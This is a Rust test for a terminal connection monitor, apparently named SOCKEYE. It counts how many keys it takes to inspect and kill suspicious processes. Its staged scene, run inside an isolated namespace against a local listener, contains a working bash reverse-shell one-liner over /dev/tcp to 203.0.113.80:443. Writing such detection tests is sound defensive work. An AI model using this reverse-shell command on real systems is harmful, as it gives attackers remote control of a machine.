//! How many keys the usual tasks take from the first screen, counted on a real terminal.

use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

use tempfile::{TempDir, tempdir};

use super::{SOCKEYE, fifo_held_open, wait_for_screen};
use crate::live::namespaces::{Named, inside, named};
use crate::support::pty::{Pty, Running, tries};

/// In a pid namespace of its own: some connections, and a shell whose stdio is one to a remote host. Told to, another
/// such shell.
const SCENE: &str = r#"
cd "$1/uploads"
shell() { bash --norc -s <>/dev/tcp/203.0.113.80/443 >&0 2>&0 & echo $! >"$1.new"; mv "$1.new" "$1"; }
for _ in 1 2 3; do sleep 1000 3<>/dev/tcp/203.0.113.80/443 & done
(shell ../first; wait) & (read -r _ <../more; shell ../second; wait) &
until [ -e ../first ]; do read -r -t 0.05 _ <>../idle; done
exec "$0" --delay 0.2
"#;

struct Stage {
    folder: TempDir,
    pty: Pty,
    keys: usize,
    _running: Running,
    _listener: TcpListener,
    _namespace: Named,
}

fn staged() -> Option<Stage> {
    let (namespace, file, _) = named("keys")?;
    let ip = |words: &[&str]| Command::new("ip").args(["-n", namespace.name()]).args(words).status().unwrap();
    assert!(ip(&["link", "set", "lo", "up"]).success());
    for address in ["10.0.0.5/32", "203.0.113.80/32"] {
        assert!(ip(&["address", "add", address, "dev", "lo"]).success());
    }
    let listener = inside(&file, || TcpListener::bind("203.0.113.80:443").unwrap());
    let folder = tempdir().unwrap();
    fs::create_dir(folder.path().join("uploads")).unwrap();
    for name in ["more", "idle"] {
        drop(fifo_held_open(&folder.path().join(name)));
    }
    let mut pty = Pty::new(80, 24);
    let own =
        ["netns", "exec", namespace.name(), "unshare", "--pid", "--fork", "--mount-proc", "--kill-child"];
    let scene = ["bash", "-c", SCENE, SOCKEYE, folder.path().to_str().unwrap()];
    let running = pty.start("ip", &[&own[..], &scene].concat());
    wait_for_screen(&mut pty);
    pty.wait_for("4 alerts"); // what keeps a connection and never reads it is loud, too
    Some(Stage { folder, pty, keys: 0, _running: running, _listener: listener, _namespace: namespace })
}

impl Stage {
    fn path(&self) -> &Path {
        self.folder.path()
    }

    /// The pid of a shell, once it is there.
    fn shell(&self, name: &str) -> String {
        let file = self.path().join(name);
        tries("a shell").take_while(|()| !file.exists()).for_each(|()| std::thread::yield_now());
        fs::read_to_string(file).unwrap().trim().to_owned()
    }

    fn press(&mut self, key: &[u8]) {
        self.keys += 1;
        self.pty.send(key);
    }

    /// Keys since the last time.
    fn keys(&mut self) -> usize {
        std::mem::take(&mut self.keys)
    }

    fn line(&self, nth: usize) -> String {
        self.pty.screen().contents().lines().nth(nth).unwrap_or_default().to_owned()
    }

    /// Rows of the table.
    fn rows(screen: &str) -> Vec<String> {
        let below = screen.lines().skip_while(|line| !line.contains("PID COMMAND")).skip(1);
        below
            .take_while(|line| !line.starts_with("──"))
            .filter(|line| !line.trim().is_empty())
            .map(str::to_owned)
            .collect()
    }

    /// Waits until all rows have it, and there are some.
    fn wait_for_rows(&mut self, what: &str) {
        self.pty.wait(what, |screen| {
            let rows = Self::rows(&screen.contents());
            !rows.is_empty() && rows.iter().all(|row| row.contains(what))
        });
    }
}

#[test]
fn usual_tasks_take_few_keys() {
    let Some(mut stage) = staged() else { return };
    let shell = stage.shell("first");

    // The shell's connection, and where and how it runs: on the first screen.
    let (strip, row) = (stage.line(2), stage.line(4));
    assert!(strip.starts_with(&format!("!! bash {shell} ")) && strip.contains("203.0.113.80:443"), "{strip}");
    assert!(row.starts_with("!!") && row.contains(&format!(" {shell} bash")), "{row}");
    let screen = stage.pty.screen().contents();
    let facts = |text: &str| assert!(screen.contains(text), "{text}:\n{screen}");
    facts("uploads");
    facts("cmd bash --norc -s");
    assert_eq!(stage.keys(), 0);

    // What is established.
    assert!(Stage::rows(&screen).iter().any(|row| row.contains("LISTEN")), "{screen}");
    stage.press(b"e");
    stage.wait_for_rows(" ESTAB ");
    assert_eq!(stage.keys(), 1);
    stage.pty.send(b"e");
    stage.pty.wait_for("LISTEN");

    // This pid alone.
    stage.press(b"p");
    stage.press(b"\r");
    stage.pty.wait_for(&format!("filter: pid:{shell} "));
    stage.wait_for_rows(&format!(" {shell} bash"));
    assert_eq!(stage.keys(), 2);
    stage.pty.send(b"p");
    stage.pty.wait_for("filter: (none)");

    // Its end, though another one comes before it in the table meanwhile.
    stage.press(b"K");
    stage.pty.wait_for(&format!("{shell}  bash --norc -s"));
    fs::write(stage.path().join("more"), "now\n").unwrap();
    let other = stage.shell("second");
    stage.pty.wait("the rows reorder", |screen| {
        let screen = screen.contents();
        screen.contains("5 alerts") && Stage::rows(&screen)[0].contains(&format!(" {other} bash"))
    });
    stage.press(b"\r");
    stage.pty.wait_for(&format!("TERM sent to {shell} bash"));
    assert_eq!(stage.keys(), 2);
    stage.pty.wait("the other is left", |screen| {
        let screen = screen.contents();
        screen.contains("4 alerts") && Stage::rows(&screen)[0].contains(&format!(" {other} bash"))
    });
}
